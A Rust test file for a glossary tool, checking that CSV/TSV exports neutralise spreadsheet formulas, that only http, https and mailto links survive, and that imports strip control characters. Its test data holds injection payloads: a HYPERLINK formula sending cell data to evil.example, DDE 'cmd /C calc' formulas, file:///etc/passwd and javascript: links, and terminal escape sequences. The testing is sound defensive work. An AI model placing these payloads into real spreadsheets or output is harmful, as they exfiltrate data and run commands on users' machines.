//! Output other programs run, round three: CSV and TSV cells a spreadsheet
//! would run as formulas, links of schemes that open files or run
//! handlers, and characters in a TBX export or an imported article that
//! XML forbids or a terminal obeys. Everything gloss writes is sanitised as
//! everything it shows.

use crate::common::write;
use crate::common::*;
use std::fs;
use std::path::Path;

fn yaml_article(title: &str, description: &str, body: &str) -> Vec<u8> {
    let quote = |text: &str| serde_json::to_string(text).unwrap();
    format!(
        "---\ntitle: {}\ndescription: {}\n---\n\n{body}\n",
        quote(title),
        quote(description)
    )
    .into_bytes()
}

fn run_in(dir: &Path, args: &[&str]) -> String {
    let (code, out, err) = run_on_folder(dir, &[], args);
    assert_eq!(code, Some(0), "{args:?}: {err}");
    out
}

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "@A1",
];

#[test]
fn csv_and_tsv_cells_that_are_formulas_are_neutralised_unless_raw() {
    let tmp = tempfile::tempdir().unwrap();
    for (i, formula) in FORMULAS.iter().enumerate() {
        let slug = format!("term-{i}");
        write(
            tmp.path(),
            &format!("{slug}/en.md"),
            &yaml_article(formula, formula, "Body."),
        );
    }
    let csv = run_in(tmp.path(), &["--export", "csv", "--lang", "en"]);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), FORMULAS.len());
    for row in &rows {
        let i: usize = row[0].strip_prefix("term-").unwrap().parse().unwrap();
        assert_eq!(&row[2], format!("'{}", FORMULAS[i]), "{csv}");
        assert_eq!(&row[3], format!("'{}", FORMULAS[i]), "{csv}");
    }
    let tsv = run_in(tmp.path(), &["--export", "tsv", "--lang", "en"]);
    for line in tsv.lines() {
        for cell in line.split('\t') {
            assert!(cell.starts_with('\''), "{cell:?} in {tsv}");
        }
    }
    // --raw, for a round trip through gloss: as written.
    let raw = run_in(tmp.path(), &["--export", "csv", "--lang", "en", "--raw"]);
    let mut reader = csv::Reader::from_reader(raw.as_bytes());
    for row in reader.records().map(Result::unwrap) {
        let i: usize = row[0].strip_prefix("term-").unwrap().parse().unwrap();
        assert_eq!(&row[2], FORMULAS[i]);
    }
    let raw_tsv = run_in(tmp.path(), &["--export", "tsv", "--lang", "en", "--raw"]);
    assert!(
        raw_tsv.lines().any(|l| l.starts_with("=1+1\t")),
        "{raw_tsv}"
    );
    // An ordinary title is not touched.
    write(
        tmp.path(),
        "plain/en.md",
        &yaml_article("Plain – not 'quoted'", "x", ""),
    );
    let csv = run_in(tmp.path(), &["--export", "csv", "--lang", "en"]);
    assert!(csv.contains("plain,en,Plain – not 'quoted',x\n"), "{csv}");
    // --raw belongs to --export.
    let (code, _, err) = run_on_folder(tmp.path(), &[], &["plain", "--raw"]);
    assert_eq!(code, Some(2), "{err}");
}

#[test]
fn only_http_https_and_mailto_become_links() {
    let tmp = tempfile::tempdir().unwrap();
    let body = "See [the password file](file:///etc/passwd), [a script](javascript:alert(1)), \
                [an editor](vscode://file/etc/passwd), [a path](docs/x.html), \
                [the site](https://ok.example/page), [old site](HTTP://old.example/) and \
                [mail](mailto:team@ok.example).";
    write(
        tmp.path(),
        "gadget/en.md",
        &yaml_article("Gadget", "A thing.", body),
    );
    let markdown = run_in(tmp.path(), &["gadget", "-f", "markdown"]);
    for dangerous in ["file:", "javascript:", "vscode:", "docs/x.html"] {
        assert!(!markdown.contains(dangerous), "{dangerous} in {markdown}");
    }
    for text in ["the password file", "a script", "an editor", "a path"] {
        assert!(markdown.contains(text), "{text} in {markdown}");
    }
    for live in [
        "[the site](<https://ok.example/page>)",
        "[old site](<HTTP://old.example/>)",
        "[mail](<mailto:team@ok.example>)",
    ] {
        assert!(markdown.contains(live), "{live} in {markdown}");
    }
    let terminal = run_in(
        tmp.path(),
        &[
            "gadget",
            "-f",
            "terminal",
            "--hyperlink",
            "always",
            "--width",
            "200",
        ],
    );
    let targets: Vec<&str> = terminal
        .split("\x1b]8;;")
        .skip(1)
        .map(|rest| rest.split('\x1b').next().unwrap())
        .filter(|target| !target.is_empty())
        .collect();
    assert_eq!(
        targets,
        [
            "https://ok.example/page",
            "HTTP://old.example/",
            "mailto:team@ok.example"
        ],
        "{terminal:?}"
    );
    for dangerous in ["file:", "javascript:", "vscode:"] {
        assert!(!terminal.contains(dangerous), "{dangerous} in {terminal:?}");
    }
}

#[test]
fn a_tbx_export_is_well_formed_whatever_the_folder_holds_and_imports_again() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("terms");
    write(
        &dir,
        "odd/en.md",
        &yaml_article(
            "Odd\u{FFFE} one\u{FFFF}",
            "Not\u{FFFF} a char\u{FFFE}.",
            "Body.",
        ),
    );
    let (code, out, err) = run_on_folder(&dir, &[], &["--check"]);
    assert_eq!(code, Some(0), "{out}{err}");
    let tbx = run_in(&dir, &["--export", "tbx", "--lang", "en"]);
    roxmltree::Document::parse(&tbx).unwrap_or_else(|e| panic!("{e}: {tbx}"));
    assert!(tbx.contains("<term>Odd one</term>"), "{tbx}");
    let file = tmp.path().join("export.tbx");
    fs::write(&file, &tbx).unwrap();
    let into = tmp.path().join("again");
    let output = gloss()
        .args(["--import"])
        .arg(&file)
        .arg("--into")
        .arg(&into)
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    let shown = run_in(&into, &["odd", "--short"]);
    assert_eq!(shown, "Not a char.\n");
}

#[test]
fn control_characters_in_tbx_notes_never_reach_an_article_file() {
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("notes.tbx");
    let tbx = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<tbx type=\"TBX-Basic\" style=\"dca\" xml:lang=\"en\" xmlns=\"urn:iso:std:iso:30042:ed-2\"><text><body>\n\
        <conceptEntry id=\"c1\"><langSec xml:lang=\"en\"><termSec><term>Grease</term></termSec>\
        <note>Line one&#x1b;[2J&#x1b;]0;pwned&#x07; and a bell&#7;.\nLine two \u{202E}reversed\u{202C} \u{FFFF}end.</note>\
        <note>\x1b[31mred\x1b[0m</note></langSec></conceptEntry>\n</body></text></tbx>\n";
    fs::write(&file, tbx).unwrap();
    let into = tmp.path().join("into");
    let output = gloss()
        .args(["--import"])
        .arg(&file)
        .arg("--into")
        .arg(&into)
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    let written = fs::read_to_string(into.join("grease/en.md")).unwrap();
    let bad: Vec<char> = written
        .chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{FFFE}' | '\u{FFFF}')
        })
        .collect();
    assert!(bad.is_empty(), "{bad:?} in {written:?}");
    assert!(
        written.contains("Line one[2J]0;pwned and a bell.\nLine two reversed end."),
        "{written:?}"
    );
}

fn on_path(program: &str) -> bool {
    std::env::var_os("PATH")
        .is_some_and(|paths| std::env::split_paths(&paths).any(|dir| dir.join(program).is_file()))
}

#[test]
fn the_pick_preview_runs_under_fish_and_takes_the_preview_width() {
    let tmp = tempfile::tempdir().unwrap();
    let args_file = tmp.path().join("args");
    let finder = tmp.path().join("finder");
    fs::write(
        &finder,
        format!(
            "#!/bin/sh\nprintf '%s\\n' \"$@\" > '{}'\ngrep '^soft-sell\t'\n",
            args_file.display()
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(&finder, fs::Permissions::from_mode(0o755)).unwrap();
    let out = gloss()
        .env("GLOSS_FINDER", &finder)
        .args(["--pick", "--lang", "sv", "--short"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let args = fs::read_to_string(&args_file).unwrap();
    let preview = args
        .lines()
        .skip_while(|line| *line != "--preview")
        .nth(1)
        .unwrap()
        .replace("{1}", "'soft-sell'");
    assert!(
        !preview.contains('$'),
        "no shell expansion to disagree on: {preview}"
    );
    let shells: Vec<&str> = ["sh", "fish"].into_iter().filter(|s| on_path(s)).collect();
    if !shells.contains(&"fish") {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "fish is missing"
        );
        eprintln!("fish is missing: only sh is tried");
    }
    for shell in shells {
        let shown = std::process::Command::new(shell)
            .args(["-c", &preview])
            .env("FZF_PREVIEW_COLUMNS", "40")
            .env("GLOSS_LANG", "sv")
            .env_remove("COLUMNS")
            .output()
            .unwrap();
        assert!(shown.status.success(), "{shell}: {shown:?}");
        let shown = strip_ansi(&String::from_utf8(shown.stdout).unwrap());
        assert!(shown.starts_with("Mjuk sälj"), "{shell}: {shown}");
        assert!(
            shown.lines().all(|l| l.chars().count() <= 40),
            "{shell}: {shown}"
        );
        assert!(
            shown.lines().any(|l| l.chars().count() > 30),
            "{shell}: {shown}"
        );
    }
}
